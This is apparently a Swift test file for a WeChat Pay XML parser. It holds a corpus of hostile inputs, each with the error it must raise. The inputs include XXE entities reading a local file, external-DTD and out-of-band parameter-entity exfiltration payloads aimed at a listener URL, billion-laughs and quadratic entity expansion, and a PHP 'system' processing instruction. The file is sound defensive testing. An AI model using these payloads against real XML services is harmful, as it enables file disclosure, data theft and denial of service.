// SPDX-License-Identifier: Apache-2.0
import Foundation
import Testing
import WeChatPay

/// The hostile-input corpus of reliability.md T5, as seen by the XML parser alone.
///
/// Each case builds its bytes on demand (the 20 MB one should not live for the whole test run) and
/// names the error it must produce by `FlatXMLError.shortDescription`, so cases whose errors carry
/// data (line numbers, a field name) are still asserted exactly.
struct HostileCase: Sendable, CustomTestStringConvertible {
    let name: String
    /// The body cap passed to `FlatXML.decode`; raised above the default where the point is to
    /// reach the parser rather than the size check.
    let maximumSize: Int
    let expected: String
    let bytes: @Sendable () -> [UInt8]

    init(_ name: String, maximumSize: Int = FlatXML.defaultMaximumSize, expected: String,
         bytes: @escaping @Sendable () -> [UInt8]) {
        self.name = name
        self.maximumSize = maximumSize
        self.expected = expected
        self.bytes = bytes
    }

    init(_ name: String, maximumSize: Int = FlatXML.defaultMaximumSize, expected: String, text: String) {
        self.init(name, maximumSize: maximumSize, expected: expected) { Array(text.utf8) }
    }

    var testDescription: String { name }
}

/// A file holding a random canary string: the target of the XXE cases. Its content must never
/// come back, neither as a field value nor inside an error's description.
enum Canary {
    static let value = "canary-" + UUID().uuidString
    static let path: String = {
        let path = FileManager.default.temporaryDirectory
            .appendingPathComponent("wxpay-hostile-\(UUID().uuidString).txt").path
        _ = FileManager.default.createFile(atPath: path, contents: Data(value.utf8))
        return path
    }()
}

enum HostileCorpus {
    private static let big = 32 * 1024 * 1024

    /// Builds the corpus. `dtdURL` is where the external-DTD cases point: a listener that must
    /// never see a connection.
    static func cases(dtdURL: String) -> [HostileCase] {
        let canary = "file://" + Canary.path
        let gbkHeader = Array(#"<?xml version="1.0" encoding="GBK"?><xml><body>"#.utf8)
        return [
            HostileCase("XXE reading a local file", expected: "doctype", text: """
                <?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "\(canary)">]>
                <xml><return_code>SUCCESS</return_code><attach>&xxe;</attach></xml>
                """),
            HostileCase("XXE in an attribute value", expected: "doctype", text: """
                <!DOCTYPE xml [<!ENTITY xxe SYSTEM "\(canary)">]><xml><a b="&xxe;">1</a></xml>
                """),
            HostileCase("a reference to an undeclared external entity", expected: "entity",
                        text: "<xml><attach>&xxe;</attach></xml>"),
            // libxml2 reads the attribute value, and meets the reference, before it reports the element.
            HostileCase("an undeclared entity in an attribute", expected: "entity",
                        text: #"<xml><a b="&xxe;">1</a></xml>"#),
            HostileCase("an external DTD", expected: "doctype",
                        text: #"<!DOCTYPE xml SYSTEM "\#(dtdURL)"><xml><a>1</a></xml>"#),
            HostileCase("an external DTD with a public identifier", expected: "doctype",
                        text: #"<!DOCTYPE xml PUBLIC "-//W//X" "\#(dtdURL)"><xml><a>1</a></xml>"#),
            HostileCase("an external parameter entity", expected: "doctype", text: """
                <!DOCTYPE xml [<!ENTITY % pe SYSTEM "\(dtdURL)"> %pe;]><xml><a>1</a></xml>
                """),
            HostileCase("an out-of-band parameter entity exfiltration", expected: "doctype", text: """
                <!DOCTYPE xml [<!ENTITY % file SYSTEM "\(canary)">\
                <!ENTITY % eval "<!ENTITY &#x25; send SYSTEM '\(dtdURL)?x=%file;'>"> %eval; %send;]>
                <xml><a>1</a></xml>
                """),
            HostileCase("billion laughs", expected: "doctype", text: billionLaughs),
            HostileCase("quadratic blowup", expected: "doctype", bytes: quadraticBlowup),
            HostileCase("10,000-deep nesting under the size cap", expected: "too_large") { deepNesting(10_000) },
            HostileCase("10,000-deep nesting", maximumSize: big, expected: "too_deep") { deepNesting(10_000) },
            HostileCase("10,000-deep nesting of root elements", maximumSize: big, expected: "too_deep") {
                Array(String(repeating: "<xml>", count: 10_000).utf8)
            },
            HostileCase("a 20 MB text node under the size cap", expected: "too_large") { hugeText(20_000_000) },
            HostileCase("a 20 MB text node", maximumSize: big, expected: "value_too_long") { hugeText(20_000_000) },
            HostileCase("a 20 MB CDATA section", maximumSize: big, expected: "value_too_long") {
                Array("<xml><a><![CDATA[".utf8) + Array(repeating: UInt8(ascii: "x"), count: 20_000_000)
                    + Array("]]></a></xml>".utf8)
            },
            HostileCase("overlong UTF-8 for '/'", expected: "invalid_utf8") { field([0xC0, 0xAF]) },
            HostileCase("overlong 3-byte UTF-8", expected: "invalid_utf8") { field([0xE0, 0x80, 0xAF]) },
            HostileCase("overlong 4-byte UTF-8", expected: "invalid_utf8") { field([0xF0, 0x80, 0x80, 0xAF]) },
            HostileCase("a UTF-8 encoded surrogate", expected: "invalid_utf8") { field([0xED, 0xA0, 0x80]) },
            HostileCase("a UTF-8 sequence truncated by the next tag", expected: "invalid_utf8") { field([0xE4, 0xBD]) },
            HostileCase("a UTF-8 sequence truncated at the end of the body", expected: "invalid_utf8") {
                Array("<xml><a>1</a></xml>".utf8) + [0xE4, 0xBD]
            },
            HostileCase("a lone continuation byte", expected: "invalid_utf8") { field([0x80]) },
            HostileCase("a code point above U+10FFFF", expected: "invalid_utf8") { field([0xF4, 0x90, 0x80, 0x80]) },
            HostileCase("the bytes 0xFE and 0xFF", expected: "invalid_utf8") { field([0xFE, 0xFF]) },
            HostileCase("a UTF-16 document", expected: "invalid_utf8") {
                [0xFF, 0xFE] + Array("<xml/>".utf8).flatMap { [$0, 0] }
            },
            HostileCase("a NUL byte inside a value", expected: "nul_byte") { field([0x31, 0x00, 0x32]) },
            HostileCase("a NUL byte after the root", expected: "nul_byte") { Array("<xml><a>1</a></xml>".utf8) + [0] },
            HostileCase("a character reference to NUL", expected: "invalid_character", text: "<xml><a>&#0;</a></xml>"),
            HostileCase("a character reference to a control character", expected: "invalid_character",
                        text: "<xml><a>&#x1;</a></xml>"),
            HostileCase("a character reference to a surrogate", expected: "invalid_character",
                        text: "<xml><a>&#xD800;</a></xml>"),
            HostileCase("a raw control character", expected: "invalid_character", text: "<xml><a>1\u{1}2</a></xml>"),
            HostileCase("duplicate fields", expected: "duplicate_field",
                        text: "<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>"),
            HostileCase("a duplicate after 10,000 distinct fields", maximumSize: big, expected: "duplicate_field") {
                var text = "<xml>"
                for i in 0..<10_000 { text += "<f\(i)>1</f\(i)>" }
                return Array((text + "<f0>2</f0></xml>").utf8)
            },
            HostileCase("an unterminated CDATA section", expected: "malformed",
                        text: "<xml><a><![CDATA[SUCCESS</a></xml>"),
            HostileCase("an unterminated CDATA section at the end", expected: "malformed", text: "<xml><a><![CDATA[SUCCESS"),
            HostileCase("a GBK declaration with GBK bytes", expected: "invalid_utf8") {
                // 你好 in GBK.
                gbkHeader + [0xC4, 0xE3, 0xBA, 0xC3] + Array("</body></xml>".utf8)
            },
            HostileCase("a processing instruction inside the root", expected: "processing_instruction",
                        text: "<xml><?php system('id'); ?><a>1</a></xml>"),
            HostileCase("a processing instruction before the root", expected: "processing_instruction",
                        text: #"<?xml-stylesheet href="http://127.0.0.1:1/x"?><xml><a>1</a></xml>"#),
            HostileCase("a comment inside a value", expected: "comment", text: "<xml><a>1<!-- x -->00</a></xml>"),
            HostileCase("a comment after the root", expected: "comment", text: "<xml><a>1</a></xml><!-- x -->"),
            HostileCase("an XInclude element", expected: "attributes", text: """
                <xml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="\(canary)" parse="text"/></xml>
                """),
            HostileCase("a namespace prefix", expected: "attributes", text: "<xml><p:a>1</p:a></xml>"),
            HostileCase("a second root element", expected: "malformed", text: "<xml><a>1</a></xml><xml><a>2</a></xml>"),
            HostileCase("text after the root", expected: "malformed", text: "<xml><a>1</a></xml>junk"),
            HostileCase("a mismatched end tag", expected: "malformed", text: "<xml><a>1</b></xml>"),
            HostileCase("an element name that is not XML", expected: "malformed", text: "<xml><1a>1</1a></xml>"),
        ]
    }

    /// A realistic notify, decoded right after every hostile case to show the pooled parser is
    /// left in a clean state.
    static let validNotify = Array("""
        <xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid><attach><![CDATA[支付测试]]></attach>
        <mch_id><![CDATA[10000100]]></mch_id><nonce_str><![CDATA[5d2b6c2a8db53831f7eda20af46e531c]]></nonce_str>
        <result_code><![CDATA[SUCCESS]]></result_code><return_code><![CDATA[SUCCESS]]></return_code>
        <total_fee>1</total_fee></xml>
        """.utf8)

    private static let billionLaughs: String = {
        var text = #"<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">"#
        for i in 1...9 {
            text += "<!ENTITY lol\(i) \"" + String(repeating: "&lol\(i - 1);", count: 10) + "\">"
        }
        return text + "]><xml><a>&lol9;</a></xml>"
    }()

    /// A 10 KB entity referenced 10,000 times: 40 KB of input, 100 MB if expanded.
    @Sendable private static func quadraticBlowup() -> [UInt8] {
        let entity = String(repeating: "a", count: 10_000)
        let references = String(repeating: "&a;", count: 10_000)
        return Array("<!DOCTYPE xml [<!ENTITY a \"\(entity)\">]><xml><b>\(references)</b></xml>".utf8)
    }

    private static func deepNesting(_ depth: Int) -> [UInt8] {
        Array(("<xml>" + String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth) + "</xml>").utf8)
    }

    private static func hugeText(_ count: Int) -> [UInt8] {
        Array("<xml><a>".utf8) + Array(repeating: UInt8(ascii: "x"), count: count) + Array("</a></xml>".utf8)
    }

    private static func field(_ value: [UInt8]) -> [UInt8] {
        Array("<xml><return_code>SUCCESS</return_code><a>".utf8) + value + Array("</a></xml>".utf8)
    }
}
